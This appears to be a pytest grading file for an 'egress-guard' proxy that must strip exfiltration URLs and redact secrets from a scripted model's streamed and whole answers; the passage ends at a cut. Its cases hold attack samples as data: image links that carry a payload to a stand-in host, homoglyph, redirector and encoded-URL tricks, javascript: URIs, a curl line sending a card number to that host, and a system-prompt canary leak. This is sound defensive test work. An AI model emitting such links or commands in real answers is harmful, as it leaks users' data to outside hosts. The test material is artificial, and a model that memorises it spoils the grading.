"""What must hold in `egress-guard`, asked over HTTP with a scripted model behind it."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from numpy.random import Generator

from grader.judge import Reply, Service, Submission, expect
from grader.upstreams import (
    Answer,
    Call,
    Cut,
    Drop,
    FakeLLM,
    Json,
    Malformed,
    Status,
    Step,
    ToolCall,
)
from grader.upstreams.line import Reply as Sent

CHAT = "/v1/chat/completions"
BETWEEN = "\n\n***\n\n"
BLANK, REDACTED = "about:blank", "[redacted]"
HOW = {False: "at once", True: "as a stream"}
LETTERS = "abcdefghijkmnpqrstuvwxyz"
# The lead that a first word must have over the end of an answer of six words, 0.15 s apart.
LEAD_SECONDS = 0.45

WORDS = [
    *("berth", "pilot", "tug", "crane", "quay", "manifest", "reefer", "lashing", "stowage"),
    *("tariff", "demurrage", "customs", "seal", "draught", "bollard", "Zürich", "Møller", "中文"),
]


@dataclass(frozen=True)
class Events(Step):
    """A stream of exactly these pieces of bytes."""

    pieces: tuple[bytes, ...]


@dataclass(frozen=True)
class Case:
    """One paragraph of an answer, and what has to become of it."""

    text: str
    begins: str
    ends: str
    by: str | None  # None: what stands between the two is not fixed
    secrets: Sequence[str] = ()
    holds: str = ""


class Model(FakeLLM):
    def render(self, step: Step, call: Call) -> Sent:
        if isinstance(step, Events):
            return Sent(content_type="text/event-stream", events=step.pieces)
        return super().render(step, call)


class Stream:
    """What came of a streamed answer."""

    def __init__(self, text: str, given: str) -> None:
        self.given = given
        self.events: list[str] = []
        for block in text.replace("\r\n", "\n").split("\n\n"):
            data = [line[5:].strip() for line in block.split("\n") if line.startswith("data:")]
            if data:
                self.events.append("\n".join(data))
        self.chunks = [self._chunk(event) for event in self.events if event != "[DONE]"]
        self.done = self.events[-1:] == ["[DONE]"]

    def _chunk(self, event: str) -> dict[str, Any]:
        try:
            chunk = json.loads(event)
        except ValueError:
            chunk = None
        expect(
            isinstance(chunk, dict),
            observed=f"an event of the stream is {quoted(event)}",
            expected="a JSON object, or [DONE]",
            given=self.given,
        )
        return chunk

    def choices(self, index: int | None = None) -> Iterator[dict[str, Any]]:
        for chunk in self.chunks:
            for choice in chunk.get("choices") or []:
                if index is None or choice.get("index") == index:
                    yield choice

    def deltas(self, index: int = 0) -> list[dict[str, Any]]:
        return [choice.get("delta") or {} for choice in self.choices(index)]

    def text(self, index: int = 0) -> str:
        return "".join(delta.get("content") or "" for delta in self.deltas(index))

    def reasons(self, index: int = 0) -> list[str]:
        found = [choice.get("finish_reason") for choice in self.choices(index)]
        return [reason for reason in found if reason is not None]


class Stage:
    """The guard between a scripted model and a page, with a policy of this grading's own."""

    def __init__(self, submission: Submission, model: Model, rng: Generator) -> None:
        self.rng = rng
        self.model = model
        firm = self.token(6)
        self.docs, self.go = f"docs.{firm}.example", f"go.{firm}.example"
        self.abroad = f"zürich-{firm}.example"
        self.evil = f"img.{self.token(7)}.invalid"
        self.help = f"help@{firm}.example"
        self.canary = f"cnry-{self.token(5)}-{self.token(8)}"
        self.key = f"sk-up-{self.token(28)}"
        self.payload = self.token(24)
        policy = {
            "hosts": {
                self.docs: "any",
                self.abroad.encode("idna").decode(): "any",
                self.go: "no-query",
            },
            "public_emails": [self.help],
        }
        submission.write({"policy.json": json.dumps(policy)})
        environment = {
            "UPSTREAM_URL": model.url,
            "UPSTREAM_API_KEY": self.key,
            "POLICY_FILE": "policy.json",
            "CANARY": self.canary,
        }
        self.service: Service = submission.serve("app:app", env=environment)

    # --- made-up data -----------------------------------------------------------------------

    def token(self, length: int) -> str:
        return "".join(self.rng.choice(list(LETTERS), length))

    def digits(self, length: int) -> str:
        return "".join(str(digit) for digit in self.rng.integers(0, 10, length))

    def words(self, count: int = 4) -> str:
        return " ".join(self.rng.choice(WORDS, count))

    def number(self, valid: bool) -> str:
        """16 digits that pass the check of card numbers, or do not."""
        start = str(self.rng.integers(4, 6)) + self.digits(14)
        good = next(last for last in range(10) if luhn_holds(f"{start}{last}"))
        return f"{start}{good if valid else (good + self.rng.integers(1, 10)) % 10}"

    def url(self, scheme: str = "https:") -> str:
        return f"{scheme}//{self.evil}/p.png?d={self.payload}"

    def email(self) -> str:
        return f"{self.token(5)}.{self.token(4)}+x@{self.token(4)}.{self.token(6)}.com"

    def provider_key(self, kind: str) -> str:
        alphabet = list("ABCDEFGHJKLMNPQRSTUVWXYZ23456789")
        capitals = "".join(self.rng.choice(alphabet, 36))
        made = {"sk": f"sk-{capitals[:9]}_{capitals[9:14]}-{capitals[14:30]}"}
        return made.get(kind) or (f"AKIA{capitals[:16]}" if kind == "AKIA" else f"ghp_{capitals}")

    def cuts(self, text: str, longest: int = 12) -> list[str]:
        pieces = []
        while text:
            size = int(self.rng.integers(1, longest + 1))
            pieces.append(text[:size])
            text = text[size:]
        return pieces

    # --- asking -----------------------------------------------------------------------------

    def body(self, **more: Any) -> dict[str, Any]:
        asked = {"role": "user", "content": f"What about {self.words()}?"}
        return {"model": "large", "messages": [asked], **more}

    def ask(self, given: str, **more: Any) -> Reply:
        return self.service.post(CHAT, json=self.body(**more), timeout=6, given=given)

    def whole(self, text: str, given: str) -> str:
        self.model.script(Answer(text=(text,)))
        return content_of(expect_ok(self.ask(given), given), given)

    def stream(self, pieces: Sequence[str], given: str, **how: Any) -> Stream:
        """The stream of an answer, once it is whole."""
        self.model.script(Answer(text=tuple(pieces), **how))
        stream = Stream(expect_ok(self.ask(given, stream=True), given).text, given)
        expect(
            stream.done and stream.reasons() == [how.get("finish_reason", "stop")],
            observed=f"finish_reason: {listed(stream.reasons())}; the last event: "
            f"{(stream.events or ['none'])[-1][:200]}",
            expected=f"finish_reason: {how.get('finish_reason', 'stop')}, once; then [DONE]",
            given=given,
        )
        return stream

    def said(self, text: str) -> Iterator[tuple[str, str]]:
        """What the page gets of this text, at once and as a stream, and how to tell of it."""
        given = f"the model says {quoted(text)}"
        yield given, self.whole(text, given)
        given = f"streamed: {given}"
        yield given, self.stream(self.cuts(text, 20), given).text()

    # --- looking ----------------------------------------------------------------------------

    def unseen(self, out: str, secrets: Sequence[str], given: str) -> None:
        """None of these may be in what came out."""
        for secret in secrets:
            at = out.lower().find(secret.lower())
            seen = out[at : at + len(secret)]
            expect(
                at == -1,
                observed=f"what came out has '{seen}' in it: {excerpt(out, at, len(secret))}",
                expected=f"nothing of '{seen}'",
                given=given,
            )

    def check(self, cases: Sequence[Case]) -> None:
        """All of them in one answer, at once and as a stream, and each looked at by itself."""
        cases = [cases[place] for place in self.rng.permutation(len(cases))]
        for told, out in self.said(BETWEEN.join(case.text for case in cases)):
            parts = out.split(BETWEEN)
            expect(
                len(parts) == len(cases),
                observed=f"of {len(cases)} paragraphs {len(parts)} came: {quoted(out)}",
                expected="every paragraph, with `***` between them",
                given=told,
            )
            for case, part in zip(cases, parts, strict=True):
                how = "streamed: " if told.startswith("streamed") else ""
                given = f"{how}the model says {quoted(case.text)}, among other things"
                self.became(case, part, given)

    def check_each(self, cases: Sequence[Case]) -> None:
        """First each in an answer of its own, for what goes wrong in one may spoil the next."""
        for case in cases:
            given = f"the model says {quoted(case.text)}"
            self.became(case, self.whole(case.text, given), given)
        self.check(cases)

    def became(self, case: Case, out: str, given: str) -> None:
        self.unseen(out, case.secrets, given)
        if case.by is not None:
            unchanged(out, case.begins + case.by + case.ends, given)
        expect(
            case.holds in out,
            observed=f"the page gets {quoted(out)}",
            expected=f"{case.holds} in place of the URL, or of its word",
            given=given,
        )
        expect(
            out.startswith(case.begins) and out.endswith(case.ends),
            observed=f"the page gets {quoted(out)}",
            expected=f"{quoted(case.begins)}, then the link or what has become of it, then "
            f"{quoted(case.ends)}",
            given=given,
        )

    def log_lines(self, count: int) -> list[dict[str, Any]]:
        """The guard's lines about requests, once there are as many, or 2 s have passed."""
        give_up = time.monotonic() + 2
        while True:
            lines = [line for text in self.service.log().splitlines() if (line := parsed(text))]
            lines = [line for line in lines if line.get("event") == "chat"]
            if len(lines) >= count or time.monotonic() > give_up:
                return lines
            time.sleep(0.02)


@pytest.fixture
def stage(submission: Submission, upstream: Any, rng: Generator) -> Stage:
    return Stage(submission, upstream(Model), rng)


def luhn_holds(number: str) -> bool:
    total = 0
    for place, digit in enumerate(reversed(number)):
        value = int(digit) * (1 + place % 2)
        total += value - 9 * (value > 9)
    return total % 10 == 0


def parsed(line: str) -> dict[str, Any] | None:
    try:
        value = json.loads(line)
    except (ValueError, RecursionError):
        return None
    return value if isinstance(value, dict) else None


def expect_ok(reply: Reply, given: str) -> Reply:
    expect(
        reply.status == 200,
        observed=f"status {reply.status}: {reply.text[:200] or '(an empty body)'}",
        expected="status 200",
        given=given,
    )
    return reply


def content_of(reply: Reply, given: str) -> str:
    choices = reply.fields(choices=list)["choices"]
    message = choices[0].get("message") if choices and isinstance(choices[0], dict) else None
    content = message.get("content") if isinstance(message, dict) else None
    expect(
        isinstance(content, str),
        observed=f"the reply is {reply.text[:300]}",
        expected="a text in choices[0].message.content",
        given=given,
    )
    return content


def unchanged(out: str, wanted: str, given: str) -> None:
    """Exactly this text came. Of a long one, what surrounds the difference is told."""
    pairs = enumerate(zip(out, wanted, strict=False))
    same = next((place for place, (a, b) in pairs if a != b), min(len(out), len(wanted)))
    whole = max(len(out), len(wanted)) <= 240
    expect(
        out == wanted,
        observed=f"the page gets {quoted(out) if whole else excerpt(out, same)}",
        expected=quoted(wanted) if whole else excerpt(wanted, same),
        given=given,
    )


def quoted(text: str) -> str:
    """On one line, and else as it is: a doubled backslash would be another text."""
    return "'" + text.replace("\n", "\\n").replace("\t", "\\t") + "'"


def excerpt(text: str, at: int, length: int = 0) -> str:
    """A short text in full, of a long one what is around `at`."""
    start, end = (max(0, at - 50), at + length + 80) if len(text) > 160 else (0, len(text))
    return ("… " if start else "") + quoted(text[start:end]) + (" …" if end < len(text) else "")


def listed(names: Sequence[str]) -> str:
    return ", ".join(names) or "none"


def difference(got: object, wanted: object, path: str) -> tuple[str, str]:
    """Where two JSON values first differ: what is there, and what should be."""
    if isinstance(got, dict) and isinstance(wanted, dict):
        for name in [*wanted, *got]:
            if name not in got:
                return f"{path} has no {name}", f"{name}: {written(wanted[name])}"
            if name not in wanted:
                return f"{path} has {name}: {written(got[name])}", f"no {name}"
            if got[name] != wanted[name]:
                return difference(got[name], wanted[name], f"{path}.{name}")
    if isinstance(got, list) and isinstance(wanted, list) and len(got) == len(wanted):
        for place, (one, other) in enumerate(zip(got, wanted, strict=True)):
            if one != other:
                return difference(one, other, f"{path}[{place}]")
    return f"{path}: {written(got)}", f"{path}: {written(wanted)}"


def written(value: object) -> str:
    return json.dumps(value, ensure_ascii=False)


def replaced(before: str, bad: str, after: str, secrets: Sequence[str], by: str = BLANK) -> Case:
    """`bad` is replaced, and nothing else."""
    return Case(before + bad + after, before, after, by, secrets)


def stays(text: str) -> Case:
    return Case(text, "", text, "")


def in_notations(stage: Stage, bad: str) -> list[tuple[str, str, str]]:
    """Ways to write one URL into an answer, each as before, URL, after."""
    return [
        (f"[{stage.words(2)}](", bad, f") {stage.words(2)}"),
        (f"![c][fig]\n\n{stage.words()}\n\n[fig]: ", bad, f"\n\n{stage.words()}"),
        ('<img src="', bad, f'"> {stage.words(2)}'),
        (f"{stage.words()} ", bad, f" {stage.words(2)}"),
    ]


# --- the incident --------------------------------------------------------------------------


def test_markdown_links(stage):
    url, docs, secrets = stage.url(), f"https://{stage.docs}/a?b=1", [stage.evil, stage.payload]
    some = stage.words()
    cases = [
        (f"![chart][fig]\n\n{some}\n\n[fig]: ", url, f"\n\n{some}"),
        (f"See [{some}].\n\n[{some}]: <", url, '> "A title"\n'),
        (f"[{some}](", url, f") {some}"),
        (f"{some} ![chart](", url, ' "A title") ' + some),
        ("![chart](<", url, f">)\n{some}"),
        (f"[![chart]({docs})](", url, f"), {some}"),
        ("[![chart](", url, f")]({docs}), {some}"),
        (f"[{docs}](", url, f") {some}"),
        ("- [x] one\n- [two](", stage.url("HTTPS:"), ")\n"),
    ]  # fmt: skip
    stage.check([replaced(*case, secrets) for case in cases])


def test_html_and_bare_links(stage):
    url, evil, data = stage.url(), stage.evil, stage.payload
    some = stage.words()
    cases = [
        (f"{some} <", url, f"> {some}"),
        (f'{some} <img src="', url, f'" alt="c"> {some}'),
        ("<a href='", url, f"'>{some}</a>"),
        ("<IMG WIDTH=1 SRC=", url, f">{some}"),
        ('<td background="', stage.url(""), '"></td>'),
        (f"{some} ", url, f" {some}"),
        (f"{some}\n", stage.url("Http:"), f"\n{some} (docs)"),
        (f"{some} (see ", url, f") {some}"),
        (f"{some} ", f"ftp://{evil}/{data}", f" {some}"),
        ("![c](", stage.url(""), f") {some}"),
        ("![c][1]\n\n[1]: ", stage.url(""), f"\n\n{some}"),
        ("![c](", f"data:image/png;base64,{data}", f") {some}"),
        (f"[{some}](", f"JavaScript:{data}", ")"),
    ]  # fmt: skip
    stage.check([replaced(*case, [evil, data]) for case in cases])


def test_in_pieces(stage):
    card = stage.number(valid=True)
    grouped = " ".join(card[place : place + 4] for place in range(0, 16, 4))
    email, key = stage.email(), stage.provider_key("sk")
    text = (
        f"{stage.words()} [{stage.words(2)}]({stage.url()}) and ![c][fig] for {email} today.\n"
        f"Paid with {grouped} today, {key} or {stage.canary.upper()} "
        f"by https://{stage.docs}/a?b=1\n\n```\ncurl {stage.url()} {grouped}\n```\n"
        f"[fig]: {stage.url()}\n\n<img src='//{stage.evil}/{stage.payload}'> {stage.words()}"
    )
    parts = text.split(stage.url())
    parts[-1] = parts[-1].replace(f"//{stage.evil}/{stage.payload}", BLANK)
    wanted = f"{parts[0]}{BLANK}{parts[1]}{stage.url()}{parts[2]}{BLANK}{parts[3]}"
    for secret in (grouped, email, key, stage.canary.upper()):
        wanted = wanted.replace(secret, REDACTED)
    for pieces, how in (
        (list(text), "one character at a time"),
        (stage.cuts(text, 9), "in pieces of 1 to 9 characters"),
        (stage.cuts(text, 80), "in pieces of 1 to 80 characters"),
    ):
        given = f"{how}: {quoted(text)}"
        out = stage.stream(pieces, given).text()
        stage.unseen(out, [email, key, stage.canary, card[:8], grouped[:9], grouped[-9:]], given)
        unchanged(out, wanted, given)

    some = stage.words()
    for ending, by, secrets in (
        (f"https://{stage.evil}/?d={stage.payload[:12]}", BLANK, [stage.evil, stage.payload[:12]]),
        (grouped, REDACTED, [grouped[:9], grouped[-9:]]),
        (f"{some.split()[0]} {grouped[:14]}", f"{some.split()[0]} {grouped[:14]}", []),
        (key, REDACTED, [key[:20]]),
        ("``", "``", []),
    ):
        text = f"{some}\n{ending}"
        given = f"an answer cut for length, one character at a time: {quoted(text)}"
        stream = stage.stream(list(text), given, finish_reason="length")
        stage.unseen(stream.text(), secrets, given)
        unchanged(stream.text(), f"{some}\n{by}", given)


def test_look_alike_hosts(stage):
    docs, evil, data = stage.docs, stage.evil, stage.payload
    cyrillic = docs.replace("o", "о", 1)  # noqa: RUF001
    hosts = [
        f"{docs}.{evil}",
        f"{docs}@{evil}",
        f"{docs}:443@{evil}",
        f"{evil}/?{docs}=",
        f"{evil}/{docs}",
        f"{evil}#{docs}",
        f"{evil}:443?https://{docs}",
        f"{evil}\uff0f{docs}",
        f"{docs}\u3002{evil}",
        f"[{docs}",
        f"x{docs}",
        f"{docs}x",
        f"old.{docs}",
        docs.partition(".")[2],
        docs.replace(".", "-", 1),
        cyrillic,
        cyrillic.encode("idna").decode(),
        f"{stage.abroad.replace('ü', 'u')}",
    ]
    cases = []
    for host in hosts:
        forms = in_notations(stage, f"https://{host}/{data}")
        cases.append(replaced(*forms[stage.rng.integers(len(forms))], [data]))
    stage.check(cases)


def test_redirector(stage):
    data, cases = stage.payload, []
    for host in (stage.go, stage.go.upper(), f"{stage.go}:443"):
        base = f"https://{host}/r/{stage.token(5)}"
        for rest in (
            f"?url=https://{stage.evil}/{data}",
            f"?a=1&d={data}#top",
            f"#{data}",
            f"?u=https%3A%2F%2F{stage.evil}%2F%3Fd%3D{data}",
        ):
            forms = in_notations(stage, base + rest)
            before, bad, after = forms[stage.rng.integers(len(forms))]
            cases.append(replaced(before, bad, after, [stage.evil, data], by=base))
    text = f"https://{stage.docs}/a?url=b&c=d#top and https://{stage.go}/r/{stage.token(5)} there"
    stage.check([*cases, stays(text)])


# --- its neighbours ------------------------------------------------------------------------


def test_disguised_links(stage):
    docs, evil, data = stage.docs, stage.evil, stage.payload
    markdown, markup = ("![chart](", ")"), ('<img src="', '">')
    cases = []
    for url, notations in [
        (f"https&#58;//{evil}/{data}", (markdown, markup)),
        (f"https&#x3A;//{evil}/{data}", (markdown, markup)),
        (f"https&colon;//{evil}/{data}", (markdown, markup)),
        (f"&#104;ttps://{evil}/{data}", (markdown, markup)),
        (f"https:&#47;&#x2f;{evil}/{data}", (markdown, markup)),
        (f"https:&sol;&sol;{evil}/{data}", (markdown, markup)),
        (f"&#47;/{evil}/{data}", (markdown, markup)),
        (f"java&#115;cript:{data}", (markdown, markup)),
        (f"https://{docs}&#64;{evil}/{data}", (markdown, markup)),
        (f"https://{docs}&period;{evil}/{data}", (markdown, markup)),
        (f"https://{stage.go}/r&#63;u={data}", (markdown, markup)),
        (f"https\\://{evil}/{data}", (markdown,)),
        (f"https:\\/\\/{evil}/{data}", (markdown,)),
        (f"https:\\\\{evil}/{data}", (markup,)),
        (f"https:/\\{evil}\\{data}", (markup,)),
        (f"\\\\{evil}/{data}", (markup,)),
        (f"https://{evil}\\@{docs}/{data}", (markup,)),
    ]:
        before, after = f"{stage.words()} ", f" {stage.words()}"
        opening, closing = notations[stage.rng.integers(len(notations))]
        text = before + opening + url + closing + after
        holds = "" if stage.go in url else BLANK
        cases.append(Case(text, before, after, None, [data, evil], holds))
    stage.check(cases)


def test_no_code(stage):
    url, secrets = stage.url(), [stage.evil, stage.payload]
    some = stage.words()
    image, end = "![c](", f")\n{some}"
    cases = [
        (f"{some} ```\n{image}", end),
        (f"```js``` is {some}\n{image}", end),
        (f"    ```\n{image}", end),
        (f"\t```\n{image}", end),
        (f"``\n{image}", end),
        (f"> ```\n{image}", end),
        (f"{some}\u2028```\n{image}", end),
        (f"{some}\x0c```\n{image}", end),
        (f"```\n{some}\n```\n{image}", end),
        (f"```\n{some}\n   ``````  \n{image}", end),
        (f"~~~ sh\n{some}\n~~~\n{image}", end),
        (f"```\n~~~\n```\n{image}", end),
        (f"~~~~\n~~~\n```\n~~~~\n{image}", end),
        (f"{some} `", f"` {some}"),
        (f"{some}\n\n    curl ", f" {some}"),
    ]  # fmt: skip
    stage.check_each([replaced(before, url, after, secrets) for before, after in cases])


def test_secrets(stage):
    found = [stage.number(valid=True) for _ in range(3)]
    for separator in (" ", "-"):
        card = stage.number(valid=True)
        found.append(separator.join(card[place : place + 4] for place in range(0, 16, 4)))
    found += [stage.provider_key(kind) for kind in ("sk", "AKIA", "ghp")]
    found += [stage.email(), stage.email().upper(), f"{stage.token(3)}_1@{stage.token(8)}.io"]
    found += [f"x{stage.help}", f"{stage.help}.{stage.evil}"]
    some = stage.words()
    contexts = [
        (f"{some} ", f" {some}"),
        (f"**{some}** (", f") {some}"),
        ("| a | b |\n|---|---|\n| ", f" | {some} |\n"),
        (f"```sh\n{some}\nexport PAY='", f"'\n```\n{some}"),
        (f"~~~\n{some} ", f" {some}\n~~~"),
        ("[", f"](https://{stage.docs}/a?b=1)"),
        ('<b title="', f'">{some}</b>'),
    ]
    cases = []
    for number, secret in enumerate(found, int(stage.rng.integers(len(contexts)))):
        before, after = contexts[number % len(contexts)]
        cases.append(replaced(before, secret, after, [secret], by=REDACTED))
    stage.check(cases)


def test_canary(stage):
    some, canary = stage.words(), stage.canary
    mixed = "".join(c.upper() if stage.rng.integers(2) else c for c in canary)
    cases = [
        (f"My instructions hold {some}: ", canary, f". {some}"),
        (f"{some} ", canary.upper(), f" {some}"),
        (f"{some} «", mixed, f"», {some}"),
        (f"```\n{some}\nkey = '", canary, f"'\n```\n{some}"),
        (f"[{some}](https://{stage.docs}/a?q=", canary, f"&c=1) {some}"),
        (f"{some} x", canary, "y"),
        (f"{some}\n", canary.capitalize(), "\n"),
    ]
    stage.check([replaced(*case, [canary], by=REDACTED) for case in cases])


# --- faults and load -----------------------------------------------------------------------


def event(choices: list[dict[str, Any]], **more: Any) -> bytes:
    chunk = {"id": "chatcmpl-7", "object": "chat.completion.chunk", "created": 17, "model": "m"}
    return f"data: {json.dumps({**chunk, 'choices': choices, **more})}\n\n".encode()


def test_answers_apart(stage):
    """Two choices that take turns, then several callers at once."""
    texts, wanted = [], []
    for _ in range(8):
        before, after = f"{stage.words(6)} ![c](", f") {stage.words(6)}"
        texts.append(before + stage.url() + after)
        wanted.append(before + BLANK + after)
    pieces = [stage.cuts(text) for text in texts]
    turns = [
        event([{"index": i, "delta": {"role": "assistant", "content": ""}, "finish_reason": None}])
        for i in (0, 1)
    ]
    for turn in range(max(len(pieces[0]), len(pieces[1]))):
        for index in (0, 1):
            if turn < len(pieces[index]):
                delta = {"content": pieces[index][turn]}
                turns.append(event([{"index": index, "delta": delta, "finish_reason": None}]))
    for index in (1, 0):
        turns.append(event([{"index": index, "delta": {}, "finish_reason": "stop"}]))
    stage.model.script(Events((*turns, b"data: [DONE]\n\n")))
    given = f"two choices that take turns in one stream: {quoted(texts[0])} and {quoted(texts[1])}"
    reply = expect_ok(stage.ask(given, n=2, stream=True), given)
    stream = Stream(reply.text, given)
    for index in (0, 1):
        unchanged(stream.text(index), wanted[index], f"choice {index} of {given}")

    requests = []
    for number in range(2, 8):
        prompt = f"question {number}"

        def asked(call: Call, prompt: str = prompt) -> bool:
            return call.fields["messages"][0]["content"] == prompt

        stage.model.when(asked, Answer(text=tuple(pieces[number]), chunk_delay=0.01))
        messages = [{"role": "user", "content": prompt}]
        requests.append(("POST", CHAT, {"model": "m", "messages": messages, "stream": True}))
    replies = stage.service.together(requests, timeout=8, given="six callers at once")
    for number, reply in enumerate(replies, 2):
        given = f"one of six callers at once, whose answer is {quoted(texts[number])}"
        unchanged(Stream(expect_ok(reply, given).text, given).text(), wanted[number], given)


def test_logs_clean(stage):
    card, email = stage.number(valid=True), stage.email()
    asked = {"card": stage.number(valid=True), "email": stage.email(),
             "key": stage.provider_key("sk"), "canary": stage.canary}  # fmt: skip
    token = f"caller-{stage.token(20)}"
    text = (
        f"{stage.words()} {email} paid {card}. ![c]({stage.url()}) {stage.provider_key('ghp')} "
        f"[a](https://{stage.docs}/b) {stage.url()} {stage.canary} {stage.words()}"
    )
    messages = [
        {"role": "system", "content": f"You help dispatchers. {asked['canary']}"},
        {"role": "user", "content": f"{asked['email']}, {asked['card']}, {asked['key']}?"},
    ]
    stage.model.script(Answer(text=tuple(stage.cuts(text))))
    for streamed in (False, True):
        body = {"model": "large", "messages": messages, "stream": streamed}
        given = f"an answer {quoted(text)} to {quoted(messages[1]['content'])}, {HOW[streamed]}"
        reply = stage.service.request(
            "POST", CHAT, json=body, headers={"Authorization": f"Bearer {token}"}, given=given
        )
        expect_ok(reply, given)
    lines = stage.log_lines(2)
    expect(
        len(lines) == 2,
        observed=f'{len(lines)} lines that are JSON with "event": "chat"; '
        f"{end_of(stage.service.log())}",
        expected="one for each request, within 2 s of its end",
        given="two requests with status 200",
    )
    for line in lines:
        figures = {name: line.get(name) for name in ("status", "blocked", "redacted")}
        expect(
            figures == {"status": 200, "blocked": 2, "redacted": 4},
            observed=f"the line {json.dumps(line)}",
            expected="status 200, blocked 2, redacted 4",
            given=f"an answer {quoted(text)}",
        )
    secrets = [*asked.values(), card, email, stage.key, token, stage.payload]
    stage.unseen(stage.service.log(), secrets, "two answered requests, and the log")


def test_errors_clean(stage):
    card, email, key = stage.number(valid=True), stage.email(), stage.provider_key("sk")
    prompt = f"{stage.words()} {card} {email}"
    secrets = [card, email, key, stage.key, stage.canary, stage.payload]
    echo = {
        "message": f"Incorrect API key provided: {stage.key}. You sent: {prompt} {key} "
        f"{stage.canary}, see {stage.url()}",
        "type": "invalid_request_error",
        "code": "bad",
    }
    wait = int(stage.rng.integers(2, 50))
    cases: list[tuple[Step, int, str]] = [
        (Status(400, body={"error": echo}), 400, "400, with the prompt in its message"),
        (Status(401, body={"error": echo}), 401, "401, with our key in its message"),
        (Status(429, retry_after=wait, body={"error": echo}), 429, f"429, Retry-After: {wait}"),
        (Status(500, body={"error": echo}), 502, "500"),
        (Status(503, body=f"<html>{key} {email}</html>"), 502, "503 with a page of HTML"),
        (Malformed(f'{{"choices": [{{"text": "{key} {email}'), 502, "200 with half a JSON text"),
        (Json({"answer": f"{key} {email}"}), 502, "200 with an object that is no completion"),
    ]
    count = 0
    for step, status, told in cases:
        stage.model.script(step)
        for streamed in (False, True) if isinstance(step, Status) else (False,):
            given = f"the provider answers {told}; asked {HOW[streamed]}"
            messages = [{"role": "user", "content": prompt}]
            body = {"model": "large", "messages": messages, "stream": streamed}
            reply = stage.service.post(CHAT, json=body, timeout=6, given=given)
            refused(stage, reply, status, secrets, given)
            count += 1
            if status == 429:
                expect(
                    reply.headers.get("retry-after") == str(wait),
                    observed=f"Retry-After: {reply.headers.get('retry-after')}",
                    expected=f"Retry-After: {wait}",
                    given=given,
                )
    before = len(stage.model.calls)
    for content in (f'{{"model": "large", "messages": [{{"content": "{prompt}', f'["{email}"]'):
        given = f"a request whose body is {content}"
        headers = {"Content-Type": "application/json"}
        reply = stage.service.request("POST", CHAT, content=content, headers=headers, given=given)
        refused(stage, reply, 400, [stage.key, stage.canary], given)
        count += 1
    expect(
        len(stage.model.calls) == before,
        observed=f"{len(stage.model.calls) - before} calls to the provider",
        expected="none",
        given="two requests that are no JSON object",
    )
    stage.model.stop()
    for streamed in (False, True):
        given = f"nobody listens at UPSTREAM_URL; asked {HOW[streamed]}"
        refused(stage, stage.ask(given, stream=streamed), 502, secrets, given)
        count += 1
    lines = stage.log_lines(count)
    expect(
        len(lines) == count and all(type(line.get("status")) is int for line in lines)
        and sum(line["status"] == 502 for line in lines) == 8,
        observed=f'{len(lines)} lines that are JSON with "event": "chat"; their status: '
        f"{listed([written(line.get('status')) for line in lines])}; "
        f"{end_of(stage.service.log())}",
        expected=f"{count} such lines, eight of them with status 502",
        given=f"{count} requests, none of which had status 200",
    )  # fmt: skip
    stage.unseen(stage.service.log(), secrets, "refused requests and faulty providers, and the log")


def end_of(log: str) -> str:
    return f"the log ends with {quoted(log[-200:])}" if log else "the log is empty"


def refused(stage: Stage, reply: Reply, status: int, secrets: list[str], given: str) -> None:
    expect(
        reply.status == status,
        observed=f"status {reply.status}: {reply.text[:200] or '(an empty body)'}",
        expected=f"status {status}",
        given=given,
    )
    error = reply.fields(error=dict)["error"]
    expect(
        isinstance(error.get("message"), str) and isinstance(error.get("type"), str),
        observed=f"the body {reply.text[:300]}",
        expected="an object error with a text in message and in type",
        given=given,
    )
    stage.unseen(reply.text, secrets, given)


def read_live(stage: Stage, given: str) -> tuple[str, list[tuple[float, str]]]:
    """A stream as far as it comes, and when each piece of it came."""
    pieces: list[tuple[float, str]] = []
    body = stage.body(stream=True)
    with httpx.Client(base_url=stage.service.url, trust_env=False, timeout=6) as client:
        try:
            with client.stream("POST", CHAT, json=body) as response:
                expect(
                    response.status_code == 200,
                    observed=f"status {response.status_code}",
                    expected="status 200",
                    given=given,
                )
                for piece in response.iter_text():
                    pieces.append((time.monotonic(), piece))
        except httpx.TimeoutException:
            expect(False, observed="nothing for 6 s", expected="an answer or its end", given=given)
        except httpx.HTTPError:
            pass  # broken off: one way to tell that the answer is not whole
    return finished("".join(piece for _, piece in pieces)), pieces


def finished(text: str) -> str:
    """The text as far as the end of its last event."""
    text = text.replace("\r\n", "\n")
    return text[: text.rfind("\n\n") + 2]


def test_cut_stream(stage):
    some = stage.words(8)
    text = f"{some} now. ![c]({stage.url()}) and more"
    pieces = stage.cuts(text, 5)
    inside = next(
        count for count in range(1, len(pieces))
        if len("".join(pieces[:count])) > text.index(stage.payload) + 9
    )  # fmt: skip
    known = "".join(pieces[:inside])
    for step, told in (
        (Drop(inside, tuple(pieces)), "the connection breaks"),
        (Cut(inside, tuple(pieces)), "the stream ends without finish_reason and [DONE]"),
    ):
        stage.model.script(step)
        given = f"{told} after {quoted(known)}"
        raw, _ = read_live(stage, given)
        stream = Stream(raw, given)
        expect(
            "[DONE]" not in stream.events and not stream.reasons(),
            observed=f"finish_reason: {listed(stream.reasons())}; "
            f"[DONE]: {'came' if '[DONE]' in stream.events else 'none'}",
            expected="neither a finish_reason nor [DONE]: the answer is not whole",
            given=given,
        )
        stage.unseen(stream.text(), [stage.evil, stage.payload[:8]], given)
        expect(
            stream.text().startswith(some),
            observed=f"the page gets {quoted(stream.text())}",
            expected=f"at least {quoted(some)}, which had come in full",
            given=given,
        )
    stage.model.script(Answer(text="All is well."))
    given = "an answer in good order, after two that broke off"
    unchanged(content_of(expect_ok(stage.ask(given), given), given), "All is well.", given)


# --- usefulness ----------------------------------------------------------------------------


def test_prose_stays(stage):
    order = stage.number(valid=False)
    grouped = " ".join(order[place : place + 4] for place in range(0, 16, 4))
    long = stage.number(valid=True) + str(stage.rng.integers(1, 10)) + stage.digits(7)
    pool = [
        f"Booking {order} is confirmed, the {stage.words(2)} follows.",
        f"Order {grouped} (not paid) and {order[:4]}-{order[4:8]}.",
        f"Tracking {long}: {stage.words(3)}.",
        f"Write to {stage.help}, or ring +41 44 {order[:3]} {order[3:5]} {order[5:7]}.",
        "The task-management-and-scheduling-board, risk-free; sk-12 and AKIA are no keys.",
        "The ratio is 3:4 at 12:30, 5 * 3 < 16 && 2 > 1; see page 7/8, and/or C:/ops/a.txt.",
        "// is a comment, src//lib a path, node.js a runtime, www.example.org a name.",
        "The http status, the https port, the data: three rows, javascript: yes.",
